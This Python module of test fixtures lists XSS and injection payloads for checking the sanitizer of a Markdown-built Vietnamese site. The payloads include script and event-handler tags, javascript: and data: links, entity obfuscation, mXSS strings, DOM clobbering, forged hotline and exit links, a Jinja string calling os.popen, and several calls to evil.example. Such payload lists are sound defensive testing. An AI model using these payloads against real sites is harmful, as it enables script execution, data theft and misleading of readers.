"""What somebody could put into a text to make a page do more than show it.

Each attack calls `alert`, sets `pwned`, asks evil.example for something, or forges a part of ours.
"""

LEFT, RIGHT = "\ue000", "\ue001"
"""The private characters that stand for a directive while a page is built."""

ATTACKS: dict[str, str] = {
    # The plain case, as a block of its own.
    "script": "<script>alert(1)</script>",
    # In the middle of a line, where Markdown sees inline HTML.
    "script-inline": "Chữ <script>pwned = 1</script> chữ",
    # Odd letters, a slash for the space, an address without a scheme.
    "script-from-elsewhere": "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    # A filter that takes out the inner tag once makes the outer one.
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # Within SVG a script is another element with the same name.
    "script-within-svg": "<svg><script>alert(1)</script></svg>",
    # Declarative shadow DOM hides its content from selectors.
    "script-in-shadow": (
        '<p>Chữ<template shadowrootmode="open"><script>pwned = 1</script></template></p>'
    ),
    # The picture does not load, so the handler runs at once.
    "onerror": "<img src=x alt=x onerror=alert(1)>",
    # SVG has a load event of its own.
    "onload-svg": "<svg onload=alert(1)></svg>",
    # An animation begins without anybody touching it.
    "onbegin-svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    # Any element can take the focus.
    "onfocus": '<p tabindex="0" autofocus onfocus="alert(1)">Chữ</p>',
    # An open box fires when it is put into the page.
    "ontoggle": "<details open ontoggle=alert(1)><summary>Chữ</summary>chữ</details>",
    # Not only pictures fail to load.
    "onerror-video": "<video src=x onerror=alert(1)></video>",
    # A second body gives its attributes to the first.
    "onload-body": "<body onload=alert(1)>",
    # Lines around the sign of equality.
    "onmouseover-newline": '<a href="chuong.md"\nonmouseover\n=\n"alert(1)">bấm</a>',
    # A quotation mark in the address of a picture of Markdown.
    "image-address-breakout": '![x](x" onerror="alert(1))',
    # The same in its title.
    "image-title-breakout": "![x](hinh.svg 'a\" onerror=\"alert(1)')<i onclick=alert(1)>x</i>",
    # A link of Markdown that is a script.
    "link": "[bấm](javascript:alert(1))",
    # Schemes do not mind capitals.
    "link-letters": "[bấm](JaVaScRiPt:alert(1))",
    # The other form of an address.
    "link-angled": "[bấm](<javascript:alert(1)>)",
    # The address stands elsewhere in the text.
    "link-reference": "[bấm][1]\n\n[1]: javascript:alert(1)",
    # So it does here, under the name of the link.
    "link-reference-implicit": "[bấm][]\n\n[bấm]: <javascript:alert(1)> 'a'",
    # An address in angles is a link by itself.
    "link-autolink": "<javascript:alert(1)>",
    # The colon in percent form: no scheme for a browser, but for one who decodes first.
    "link-percent": "[bấm](javascript%3Aalert(1))",
    # The scheme of old browsers.
    "link-vbscript": "[bấm](vbscript:alert(1))",
    # Markdown lets entities through, and the browser reads them.
    "link-entity": "[bấm](&#106;avascript:alert(1))",
    # The colon has a name.
    "link-entity-colon": "[bấm](javascript&colon;alert(1))",
    # Entities without the semicolon, with zeros before, in hexadecimal.
    "href-entities": '<a href="&#0000106&#97;&#x76;&#X61script:alert(1)">bấm</a>',
    # Browsers leave out tabs within a scheme.
    "href-tab": '<a href="java\tscript:alert(1)">bấm</a>',
    # And ends of lines.
    "href-newline": '<a href="java\nscript:alert(1)">bấm</a>',
    # A tab that has a name.
    "href-entity-tab": '<a href="java&Tab;script&colon;alert(1)">bấm</a>',
    # Ends of lines as entities, before and within.
    "href-entity-newline": '<a href="&NewLine; java&#10;script:alert(1)">bấm</a>',
    # Browsers leave out control characters before the scheme.
    "href-control": '<a href="&#1;javascript:alert(1)">bấm</a>',
    # Attributes need no quotation marks.
    "href-unquoted": "<a href=javascript:alert(1)>bấm</a>",
    # The address of a link within SVG.
    "xlink-href": '<svg><a xlink:href="javascript:alert(1)"><text y="20">bấm</text></a></svg>',
    # A whole document within a link.
    "data-link": "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    # A picture that is a document.
    "data-image": "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    # A document that a script has made.
    "blob-link": "[bấm](blob:https://evil.example/1)",
    # A document within an attribute.
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    # A frame whose address is a script.
    "iframe-javascript": '<iframe src="javascript:parent.pwned = 1"></iframe>',
    # The older frame.
    "object": '<object data="javascript:alert(1)"></object>',
    # The oldest.
    "embed": '<embed src="https://evil.example/x.html">',
    # Asks readers for something and sends it elsewhere.
    "form-action": '<form action="https://evil.example/"><button>Gửi</button></form>',
    # A field takes the focus at once.
    "form-autofocus": '<form><input autofocus onfocus="alert(1)"></form>',
    # A button has an address of its own.
    "formaction": '<button formaction="javascript:alert(1)">Gửi</button>',
    # Sends the reader away.
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    # All links and scripts lead elsewhere.
    "base": '<base href="https://evil.example/">',
    # A style sheet from elsewhere can read a page, letter by letter.
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # A picture from elsewhere tells who reads about violence.
    "image-from-elsewhere": "![x](https://evil.example/pixel.png)",
    # So it does without a scheme.
    "image-without-scheme": '<img src="//evil.example/pixel.png" alt="x">',
    # And in the second attribute for addresses.
    "image-srcset": '<img src="hinh.svg" alt="x" srcset="https://evil.example/pixel.png 1x">',
    # A sound that starts by itself.
    "audio": '<audio autoplay src="https://evil.example/x.mp3"></audio>',
    # Tells of each click.
    "ping": '<a href="#" ping="https://evil.example/">bấm</a>',
    # Imports, and hides the page.
    "style-element": "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    # Covers the page with a text of one's own.
    "style-cover": '<p style="position:fixed;inset:0;background:url(//evil.example/x)">Chữ</p>',
    # A script within a style: old browsers.
    "style-expression": '<p style="width:expression(alert(1))">Chữ</p>',
    # Material reads its settings from the element of this name.
    "clobber-config": '<a id="__config">{"base":"https://evil.example","features":[]}</a>',
    # And its search from `document.forms.search`.
    "clobber-search-form": '<form name="search"><input name="query"></form>',
    # The switch of the search.
    "clobber-search-id": '<div id="__search"></div>',
    # `document.forms` and `document.body` themselves.
    "clobber-document": '<img name="forms" src="x" alt="x"><img name="body" src="x" alt="x">',
    # A step that no session has.
    "forged-step": '<section class="tn-step"><div class="tn-do">Giả</div></section>',
    # The quick exit to another address.
    "forged-exit": '<a class="tn-exit__link" href="https://evil.example/">Thoát nhanh</a>',
    # A hotline that does not exist.
    "forged-hotline": '<p class="tn-big-number"><a href="tel:111">111</a></p>',
    # What our scripts and Material's look for.
    "forged-data": '<div data-md-component="search" data-variant="short">Giả</div>',
    # The mark of a directive.
    "forged-directive": f"{LEFT}session mo-dau{RIGHT}",
    # The same mark as entities, which become characters after the others were dropped.
    "forged-directive-entity": "&#xE000;session mo-dau&#xE001;",
    # Tags that do not close, inline,
    "unclosed-b": '<b onclick="alert(1)">Chữ',
    # within each other,
    "unclosed-list": '<ul class="tn-checks"><li><details ontoggle=alert(1)>Chữ',
    # and as a block, which for Markdown ends with the page.
    "unclosed-div": '<div class="tn-step"><b>Chữ',
    # Closes what it did not open.
    "closing-tags": "</p></div></article></main><script>alert(1)</script>",
    # Between two comments.
    "comment": "<!-- chữ --><script>alert(1)</script><!-- -->",
    # A comment that is over at once for browsers.
    "comment-short": "<!--><script>alert(1)</script>-->",
    # Another end of a comment.
    "comment-bang": "<!-- --!><script>alert(1)</script> -->",
    # None.
    "comment-unclosed": "<!-- <script>alert(1)</script>",
    # A section of XML is a comment in HTML, and ends earlier.
    "cdata": "<![CDATA[ ><script>alert(1)</script> ]]>",
    # So does an instruction.
    "processing-instruction": '<?xml href="javascript:alert(1)"?><script>alert(1)</script>',
    # Text for one parser, and the end of text for the other.
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    # With scripts on, another content than with scripts off.
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
    # Changes its meaning when it is read a second time (mXSS, DOMPurify 2020).
    "mathml": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></style></mglyph></table></mtext>'
        "</math>"
    ),
    # Any element of MathML may be a link.
    "mathml-href": '<math href="javascript:alert(1)"><mtext>bấm</mtext></math>',
    # A paragraph ends SVG, and style becomes another element.
    "svg-style": ('<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></style></svg>'),
}

PROSE_ATTACKS: dict[str, str] = {
    # Attribute lists, which only prose pages have: on a paragraph,
    "attr-list": 'Chữ\n{: onclick="alert(1)" }',
    # within a line,
    "attr-list-inline": '*chữ*{: onmouseover="alert(1)" style="position:fixed" }',
    # on a picture,
    "attr-list-image": '![x](hinh.svg){ onload="alert(1)" }',
    # in place of the address of a link,
    "attr-list-link": "[bấm](chuong.md){: href=javascript:alert(1) }",
    # with classes and data of ours,
    "attr-list-forged": "*chữ*{: .tn-exit__link data-variant=short }",
    # and with an id that scripts look for.
    "attr-list-clobber": "## Phần {#__config}",
    # Fences of code take attributes, too.
    "fence-attributes": '```{ .html onclick="alert(1)" }\nchữ\n```',
}

STEP_ATTACKS: dict[str, str] = {
    # Texts in YAML have no ids: this one would catch the run sheet's link to step 2.
    "forged-anchor": '<h3 id="buoc-2">2. Giả</h3>',
}

QUIET: dict[str, str] = {
    # Nothing to take out: Markdown shows these as they are written. A slash for the space.
    "slashes": '<img/src="x"/alt="x"/onerror="alert(1)">',
    # A tag without its end.
    "unclosed-tag": '<img src="x" alt="x" onerror="alert(1)"',
    # A quotation without its end.
    "unclosed-quote": '<a href="chuong.md" onclick="alert(1)>bấm</a>',
    # Code.
    "code": "`<script>alert(1)</script>`",
    # Escaped once, and twice.
    "escaped": "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;",
    "twice-escaped": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    # The language of our templates.
    "template": "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% raw %}",
    # A letter that only looks like a j.
    "fullwidth": "[bấm](https://example.org/#ｊavascript:alert(1))",
}

TITLES: dict[str, str] = {
    # Titles go into the head, the header, the navigation, the contents and the search.
    # As it is.
    "tag": "Tên <img src=x onerror=alert('{}')>",
    # As code, which is text in Markdown: the check lets it pass.
    "code": "Tên `<img src=x onerror=alert('{}')>`",
    # As entities, which whoever strips tags decodes.
    "entities": "Tên &lt;img src=x onerror=alert('{}')&gt;",
    # For whoever decodes twice.
    "entities-twice": "Tên &amp;lt;img src=x onerror=alert('{}')&amp;gt;",
    # Ends the title in the head: in each of these forms.
    "end-of-title": "Tên </title><script>alert('{}')</script>",
    "end-of-title-code": "Tên `</title><script>alert('{}')</script>`",
    "end-of-title-entities": "Tên &lt;/title&gt;&lt;script&gt;alert('{}')&lt;/script&gt;",
    # Ends an attribute.
    "attribute": 'Tên " autofocus onfocus="alert(\'{}\')" x="',
}
